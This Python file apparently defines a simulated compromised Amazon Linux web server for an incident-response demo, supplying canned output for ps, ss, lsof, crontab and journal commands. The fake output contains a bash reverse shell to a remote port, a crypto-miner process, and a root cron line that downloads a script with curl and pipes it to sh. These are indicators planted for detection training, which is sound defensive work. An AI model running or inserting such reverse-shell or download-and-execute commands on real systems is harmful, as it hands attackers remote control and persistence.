"""An Amazon Linux 2023 web server (nginx + php-fpm) with a reverse shell, a miner and a cron dropper.

Indicators a demo viewer should find: bash reverse shell to 203.0.113.66:4444 spawned by php-fpm,
a miner "kswapd0" in /tmp/.X11-unix/.x talking to 198.51.100.23:3333, a root cron entry that
re-downloads it, and an SSH login from 198.51.100.77. net-tools is not installed (no netstat).
"""
from lab.ssm.hosts.base import HostProfile

_PS = """\
USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
root           1  0.0  0.3 106124 15876 ?        Ss   ${boot_ps}   0:21 /usr/lib/systemd/systemd --switched-root --system --deserialize=32
root           2  0.0  0.0      0     0 ?        S    ${boot_ps}   0:00 [kthreadd]
root         412  0.0  0.4  60252 19440 ?        Ss   ${boot_ps}   0:09 /usr/lib/systemd/systemd-journald
root         448  0.0  0.2  35360 11232 ?        Ss   ${boot_ps}   0:01 /usr/lib/systemd/systemd-udevd
systemd+     901  0.0  0.2  19456 12184 ?        Ss   ${boot_ps}   0:02 /usr/lib/systemd/systemd-resolved
root         925  0.0  0.1  12820  5960 ?        Ss   ${boot_ps}   0:00 /usr/sbin/crond -n
root         933  0.0  0.4 1247616 19852 ?       Ssl  ${boot_ps}   1:42 /usr/bin/amazon-ssm-agent
root         951  0.0  0.2  16276  9912 ?        Ss   ${boot_ps}   0:00 sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups
chrony       960  0.0  0.0  88632  3860 ?        S    ${boot_ps}   0:01 /usr/sbin/chronyd -F 2
root        1102  0.0  0.3 281284 13240 ?        Ss   ${boot_ps}   0:18 php-fpm: master process (/etc/php-fpm.conf)
apache      1107  0.1  1.1 297944 44160 ?        S    ${boot_ps}  21:03 php-fpm: pool www
apache      1108  0.1  1.0 297812 42876 ?        S    ${boot_ps}  20:51 php-fpm: pool www
root        1120  0.0  0.0  14420  2304 ?        Ss   ${boot_ps}   0:00 nginx: master process /usr/sbin/nginx
nginx       1121  0.0  0.1  15412  6892 ?        S    ${boot_ps}   2:11 nginx: worker process
nginx       1122  0.0  0.1  15412  6800 ?        S    ${boot_ps}   2:09 nginx: worker process
root        1341  0.0  0.6 1473552 25120 ?       Ssl  ${boot_ps}   0:57 /usr/bin/ssm-agent-worker
apache     28811  0.0  0.0   4356  3164 ?        S    ${incident_clock}   0:00 sh -c bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
apache     28812  0.0  0.0   4488  3720 ?        S    ${incident_clock}   0:00 bash -i
apache     28954 97.8  6.2 2413028 251904 ?      Ssl  ${incident_clock} 722:15 /tmp/.X11-unix/.x/kswapd0 -o 198.51.100.23:3333 --donate-level 0 -B
root       30417  0.0  0.2  19240 10532 ?        Ss   ${incident_clock}   0:00 sshd: ec2-user [priv]
ec2-user   30421  0.0  0.1  19240  6980 ?        S    ${incident_clock}   0:00 sshd: ec2-user@pts/0
ec2-user   30422  0.0  0.1   8248  4996 pts/0    Ss+  ${incident_clock}   0:00 -bash
root       31877  0.0  0.0   4356  3300 ?        S    ${clock_short}   0:00 /bin/sh _script.sh
root       31880  0.0  0.0  10824  3660 ?        R    ${clock_short}   0:00 ps auxww
"""

_SS = """\
Netid State  Recv-Q Send-Q   Local Address:Port     Peer Address:Port Process
udp   UNCONN 0      0            127.0.0.54:53            0.0.0.0:*     users:(("systemd-resolve",pid=901,fd=16))
udp   UNCONN 0      0         127.0.0.53%lo:53            0.0.0.0:*     users:(("systemd-resolve",pid=901,fd=14))
udp   UNCONN 0      0             127.0.0.1:323           0.0.0.0:*     users:(("chronyd",pid=960,fd=5))
udp   ESTAB  0      0    ${ip}%ens5:68        ${gateway}:67    users:(("systemd-network",pid=898,fd=21))
tcp   LISTEN 0      511             0.0.0.0:80            0.0.0.0:*     users:(("nginx",pid=1122,fd=6),("nginx",pid=1121,fd=6),("nginx",pid=1120,fd=6))
tcp   LISTEN 0      511             0.0.0.0:443           0.0.0.0:*     users:(("nginx",pid=1122,fd=7),("nginx",pid=1121,fd=7),("nginx",pid=1120,fd=7))
tcp   LISTEN 0      128             0.0.0.0:22            0.0.0.0:*     users:(("sshd",pid=951,fd=3))
tcp   LISTEN 0      4096         127.0.0.53:53            0.0.0.0:*     users:(("systemd-resolve",pid=901,fd=15))
tcp   LISTEN 0      511           127.0.0.1:9000          0.0.0.0:*     users:(("php-fpm",pid=1108,fd=9),("php-fpm",pid=1107,fd=9),("php-fpm",pid=1102,fd=7))
tcp   ESTAB  0      0              ${ip}:22         198.51.100.77:50412 users:(("sshd",pid=30421,fd=4),("sshd",pid=30417,fd=4))
tcp   ESTAB  0      0              ${ip}:41876       203.0.113.66:4444  users:(("bash",pid=28812,fd=2),("bash",pid=28812,fd=1),\
("bash",pid=28812,fd=0),("sh",pid=28811,fd=2))
tcp   ESTAB  0      0              ${ip}:52214      198.51.100.23:3333  users:(("kswapd0",pid=28954,fd=14))
tcp   ESTAB  0      0              ${ip}:443         192.0.2.44:61522  users:(("nginx",pid=1121,fd=12))
tcp   ESTAB  0      0              ${ip}:37120        52.94.177.201:443   users:(("amazon-ssm-agen",pid=933,fd=11))
tcp   ESTAB  0      0              ${ip}:37134        52.94.177.201:443   users:(("ssm-agent-worke",pid=1341,fd=13))
tcp   LISTEN 0      128                [::]:22               [::]:*     users:(("sshd",pid=951,fd=4))
tcp   LISTEN 0      511                [::]:80               [::]:*     users:(("nginx",pid=1122,fd=8),("nginx",pid=1121,fd=8),("nginx",pid=1120,fd=8))
"""

_IP_ADDRESS = """\
1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000
    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00
    inet 127.0.0.1/8 scope host lo
       valid_lft forever preferred_lft forever
    inet6 ::1/128 scope host noprefixroute
       valid_lft forever preferred_lft forever
2: ens5: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 9001 qdisc mq state UP group default qlen 1000
    link/ether ${mac} brd ff:ff:ff:ff:ff:ff
    altname enp0s5
    inet ${ip}/24 metric 512 brd ${broadcast} scope global dynamic ens5
       valid_lft 2917sec preferred_lft 2917sec
    inet6 fe80::8ff:2bff:fe61:c0a1/64 scope link proto kernel_ll
       valid_lft forever preferred_lft forever
"""

_IP_ROUTE = """\
default via ${gateway} dev ens5 proto dhcp src ${ip} metric 512
10.20.0.2 via ${gateway} dev ens5 proto dhcp src ${ip} metric 512
${network}/24 dev ens5 proto kernel scope link src ${ip} metric 512
${gateway} dev ens5 proto dhcp scope link src ${ip} metric 512
"""

_IP_NEIGH = """\
${gateway} dev ens5 lladdr 0a:ff:d3:8a:11:4f REACHABLE
10.20.0.2 dev ens5 lladdr 0a:ff:d3:8a:11:4f STALE
"""

_IP_LINK = """\
1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN mode DEFAULT group default qlen 1000
    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00
2: ens5: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 9001 qdisc mq state UP mode DEFAULT group default qlen 1000
    link/ether ${mac} brd ff:ff:ff:ff:ff:ff
    altname enp0s5
"""

_MEMINFO = """\
MemTotal:        3964656 kB
MemFree:          281944 kB
MemAvailable:    2291316 kB
Buffers:            2704 kB
Cached:          2117468 kB
SwapCached:            0 kB
Active:           897124 kB
Inactive:        2410356 kB
Active(anon):       1652 kB
Inactive(anon):  1191232 kB
Active(file):     895472 kB
Inactive(file):  1219124 kB
Unevictable:           0 kB
Mlocked:               0 kB
SwapTotal:             0 kB
SwapFree:              0 kB
Dirty:               196 kB
Writeback:             0 kB
AnonPages:       1187308 kB
Mapped:           203540 kB
Shmem:              5576 kB
KReclaimable:     184548 kB
Slab:             262912 kB
SReclaimable:     184548 kB
SUnreclaim:        78364 kB
KernelStack:        3136 kB
PageTables:        14344 kB
CommitLimit:     1982328 kB
Committed_AS:    2781000 kB
VmallocTotal:   34359738367 kB
VmallocUsed:       15004 kB
HugePages_Total:       0
HugePages_Free:        0
Hugepagesize:       2048 kB
"""

_MODULES = """\
tls 139264 0 - Live 0x0000000000000000
nft_fib_inet 16384 1 - Live 0x0000000000000000
nft_fib_ipv4 16384 1 nft_fib_inet, Live 0x0000000000000000
nft_fib 16384 3 nft_fib_inet,nft_fib_ipv4, Live 0x0000000000000000
nf_tables 331776 4 nft_fib_inet,nft_fib_ipv4,nft_fib, Live 0x0000000000000000
nfnetlink 20480 1 nf_tables, Live 0x0000000000000000
sunrpc 700416 1 - Live 0x0000000000000000
ena 167936 0 - Live 0x0000000000000000
ghash_clmulni_intel 16384 0 - Live 0x0000000000000000
nvme 57344 2 - Live 0x0000000000000000
nvme_core 208896 3 nvme, Live 0x0000000000000000
dm_mod 212992 0 - Live 0x0000000000000000
fuse 184320 1 - Live 0x0000000000000000
"""

_LSMOD = """\
Module                  Size  Used by
tls                   139264  0
nft_fib_inet           16384  1
nft_fib_ipv4           16384  1 nft_fib_inet
nft_fib                16384  3 nft_fib_inet,nft_fib_ipv4
nf_tables             331776  4 nft_fib_inet,nft_fib_ipv4,nft_fib
nfnetlink              20480  1 nf_tables
sunrpc                700416  1
ena                   167936  0
ghash_clmulni_intel    16384  0
nvme                   57344  2
nvme_core             208896  3 nvme
dm_mod                212992  0
fuse                  184320  1
"""

_MOUNTS = """\
/dev/nvme0n1p1 / xfs rw,noatime,seclabel,attr2,inode64,logbufs=8,logbsize=32k,sunit=1024,swidth=1024,noquota 0 0
devtmpfs /dev devtmpfs rw,seclabel,nosuid,size=4096k,nr_inodes=495372,mode=755,inode64 0 0
tmpfs /dev/shm tmpfs rw,seclabel,nosuid,nodev,inode64 0 0
proc /proc proc rw,nosuid,nodev,noexec,relatime 0 0
sysfs /sys sysfs rw,seclabel,nosuid,nodev,noexec,relatime 0 0
tmpfs /run tmpfs rw,seclabel,nosuid,nodev,size=792932k,nr_inodes=819200,mode=755,inode64 0 0
tmpfs /tmp tmpfs rw,seclabel,nosuid,nodev,nr_inodes=1048576,inode64 0 0
/dev/nvme1n1 /var/www xfs rw,noatime,seclabel,attr2,inode64,logbufs=8,logbsize=32k,noquota 0 0
/dev/nvme0n1p128 /boot/efi vfat rw,noatime,fmask=0077,dmask=0077,codepage=437,iocharset=ascii,shortname=winnt,errors=remount-ro 0 0
"""

_MOUNT = """\
/dev/nvme0n1p1 on / type xfs (rw,noatime,seclabel,attr2,inode64,logbufs=8,logbsize=32k,sunit=1024,swidth=1024,noquota)
devtmpfs on /dev type devtmpfs (rw,nosuid,seclabel,size=4096k,nr_inodes=495372,mode=755,inode64)
tmpfs on /dev/shm type tmpfs (rw,nosuid,nodev,seclabel,inode64)
proc on /proc type proc (rw,nosuid,nodev,noexec,relatime)
sysfs on /sys type sysfs (rw,nosuid,nodev,noexec,relatime,seclabel)
tmpfs on /run type tmpfs (rw,nosuid,nodev,seclabel,size=792932k,nr_inodes=819200,mode=755,inode64)
tmpfs on /tmp type tmpfs (rw,nosuid,nodev,seclabel,nr_inodes=1048576,inode64)
/dev/nvme1n1 on /var/www type xfs (rw,noatime,seclabel,attr2,inode64,logbufs=8,logbsize=32k,noquota)
/dev/nvme0n1p128 on /boot/efi type vfat (rw,noatime,fmask=0077,dmask=0077,codepage=437,iocharset=ascii,shortname=winnt,errors=remount-ro)
"""

_LAST = """\
ec2-user pts/0        198.51.100.77    ${incident_last} - still logged in
ec2-user pts/0        192.0.2.10       ${login1_last} 09:12 - 09:48  (00:36)
ec2-user pts/0        192.0.2.10       ${login2_last} 14:02 - 14:31  (00:28)
reboot   system boot  6.1.115-126.197. ${boot_last}   still running

wtmp begins ${boot_full}
"""

_LSOF = """\
COMMAND     PID     USER   FD   TYPE DEVICE SIZE/OFF NODE NAME
systemd-r   901 systemd-resolve   14u  IPv4  19411      0t0  UDP 127.0.0.53:53
chronyd     960   chrony    5u  IPv4  19877      0t0  UDP 127.0.0.1:323
sshd        951     root    3u  IPv4  20114      0t0  TCP *:22 (LISTEN)
amazon-ss   933     root   11u  IPv4 731552      0t0  TCP ${ip}:37120->52.94.177.201:443 (ESTABLISHED)
php-fpm    1102     root    7u  IPv4  21033      0t0  TCP 127.0.0.1:9000 (LISTEN)
nginx      1120     root    6u  IPv4  21101      0t0  TCP *:80 (LISTEN)
nginx      1120     root    7u  IPv4  21102      0t0  TCP *:443 (LISTEN)
nginx      1121    nginx   12u  IPv4 732001      0t0  TCP ${ip}:443->192.0.2.44:61522 (ESTABLISHED)
sh        28811   apache    2u  IPv4 698812      0t0  TCP ${ip}:41876->203.0.113.66:4444 (ESTABLISHED)
bash      28812   apache    0u  IPv4 698812      0t0  TCP ${ip}:41876->203.0.113.66:4444 (ESTABLISHED)
bash      28812   apache    1u  IPv4 698812      0t0  TCP ${ip}:41876->203.0.113.66:4444 (ESTABLISHED)
bash      28812   apache    2u  IPv4 698812      0t0  TCP ${ip}:41876->203.0.113.66:4444 (ESTABLISHED)
kswapd0   28954   apache   14u  IPv4 699140      0t0  TCP ${ip}:52214->198.51.100.23:3333 (ESTABLISHED)
sshd      30417     root    4u  IPv4 701377      0t0  TCP ${ip}:22->198.51.100.77:50412 (ESTABLISHED)
"""

_CRONTAB = """\
# logrotate for the application logs
15 3 * * * /usr/sbin/logrotate /etc/logrotate.d/webapp >/dev/null 2>&1
*/10 * * * * curl -fsSL http://203.0.113.66/.s/k.sh | sh >/dev/null 2>&1
"""

_CRON_DIRS = """\
/etc/cron.d:
total 8
drwxr-xr-x.  2 root root   21 2024-11-05 17:40:12.000000000 +0000 .
drwxr-xr-x. 84 root root 8192 ${incident_iso}:58.412311084 +0000 ..
-rw-r--r--.  1 root root  128 2024-11-05 17:40:12.000000000 +0000 0hourly

/etc/cron.hourly:
total 4
drwxr-xr-x.  2 root root   22 2024-11-05 17:40:12.000000000 +0000 .
-rwxr-xr-x.  1 root root  580 2024-11-05 17:40:12.000000000 +0000 0anacron

/etc/cron.daily:
total 0
drwxr-xr-x.  2 root root    6 2024-11-05 17:40:12.000000000 +0000 .

/var/spool/cron:
total 4
drwx------.  2 root root   18 ${incident_iso}:58.412311084 +0000 .
-rw-------.  1 root root  171 ${incident_iso}:58.412311084 +0000 root
"""

_TIMERS = """\
NEXT                        LEFT       LAST                        PASSED      UNIT                         ACTIVATES
${date}  53min left ${date}  6min ago    dnf-makecache.timer          dnf-makecache.service
${date}  11h left   ${date}  12h ago     logrotate.timer              logrotate.service
${date}  14h left   ${date}  9h ago      systemd-tmpfiles-clean.timer systemd-tmpfiles-clean.service

3 timers listed.
"""

_DF = """\
Filesystem       1K-blocks    Used Available Use% Mounted on
devtmpfs              4096       0      4096   0% /dev
tmpfs              1982328       0   1982328   0% /dev/shm
tmpfs               792932     476    792456   1% /run
/dev/nvme0n1p1     8310764 2301136   6009628  28% /
tmpfs              1982328    2344   1979984   1% /tmp
/dev/nvme1n1      20960256 3981104  16979152  19% /var/www
/dev/nvme0n1p128     10202    1310      8892  13% /boot/efi
"""

_FREE = """\
               total        used        free      shared  buff/cache   available
Mem:         3964656     1673340      281944        5576     2304800     2291316
Swap:              0           0           0
"""

_JOURNAL = """\
${incident_day} ${incident_clock}:07 ${hostname} sshd[30417]: Accepted publickey for ec2-user from 198.51.100.77\
 port 50412 ssh2: RSA SHA256:Qf3c1X0l1aWbB9hJ0nq7m2m3QH3S0vGm5d5f1K2uT3E
${incident_day} ${incident_clock}:07 ${hostname} sshd[30417]: pam_unix(sshd:session): session opened for user ec2-user(uid=1000) by ec2-user(uid=0)
${incident_day} ${incident_clock}:07 ${hostname} systemd-logind[912]: New session 41 of user ec2-user.
${incident_day} ${incident_clock}:55 ${hostname} sudo[30512]: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/usr/bin/crontab -e
${incident_day} ${incident_clock}:55 ${hostname} sudo[30512]: pam_unix(sudo:session): session opened for user root(uid=0) by ec2-user(uid=1000)
${incident_day} ${incident_clock}:58 ${hostname} crontab[30514]: (root) REPLACE (root)
${incident_day} ${incident_clock}:59 ${hostname} CROND[30601]: (root) CMD (curl -fsSL http://203.0.113.66/.s/k.sh | sh >/dev/null 2>&1)
${day} ${clock} ${hostname} amazon-ssm-agent[933]: INFO [MessageService] [EngineProcessor] [OnDemand] command received
"""

_OUTPUTS = {
    "date": "${date}\n",
    "uptime": " ${clock} up 12 days,  7:41,  1 user,  load average: 1.04, 1.01, 0.98\n",
    "hostname": "${hostname}\n",
    "uname": "Linux ${hostname} 6.1.115-126.197.amzn2023.x86_64 #1 SMP PREEMPT_DYNAMIC Tue Nov  5 17:36:57 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n",
    "who": "ec2-user pts/0        ${incident_iso} (198.51.100.77)\n",
    "w": (
        " ${clock} up 12 days,  7:41,  1 user,  load average: 1.04, 1.01, 0.98\n"
        "USER     TTY        LOGIN@   IDLE   JCPU   PCPU WHAT\n"
        "ec2-user pts/0     ${incident_clock}  10:02m  0.02s  0.02s -bash\n"
    ),
    "ps": _PS,
    "ss": _SS,
    "ip address": _IP_ADDRESS,
    "ip route": _IP_ROUTE,
    "ip neigh": _IP_NEIGH,
    "ip link": _IP_LINK,
    "cat /proc/meminfo": _MEMINFO,
    "cat /proc/modules": _MODULES,
    "cat /proc/mounts": _MOUNTS,
    "cat /etc/crontab": "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n",
    "lsmod": _LSMOD,
    "mount": _MOUNT,
    "last": _LAST,
    "lsof": _LSOF,
    "crontab": _CRONTAB,
    "ls": _CRON_DIRS,
    "systemctl list-timers": _TIMERS,
    "df": _DF,
    "free": _FREE,
    "journalctl": _JOURNAL,
    "id": "uid=0(root) gid=0(root) groups=0(root) context=system_u:system_r:unconfined_service_t:s0\n",
}

_ALIASES = {
    "ip a": "address", "ip addr": "address",
    "ip r": "route", "ip ro": "route",
    "ip n": "neigh", "ip neighbor": "neigh", "ip neighbour": "neigh",
    "ip l": "link",
}

_FILLER = (
    "${day} ${clock} ${hostname} nginx[1121]: 192.0.2.44 - - \"GET /assets/app.${n}.js HTTP/1.1\" 200 48213 \"-\" \"Mozilla/5.0\"\n",
    "${day} ${clock} ${hostname} php-fpm[1107]: [pool www] child 1107 said into stdout: \"request ${n} served in 12ms\"\n",
    "${day} ${clock} ${hostname} systemd[1]: Started session-${n}.scope - Session ${n} of User ec2-user.\n",
)

LINUX = HostProfile(_OUTPUTS, _ALIASES, _FILLER)
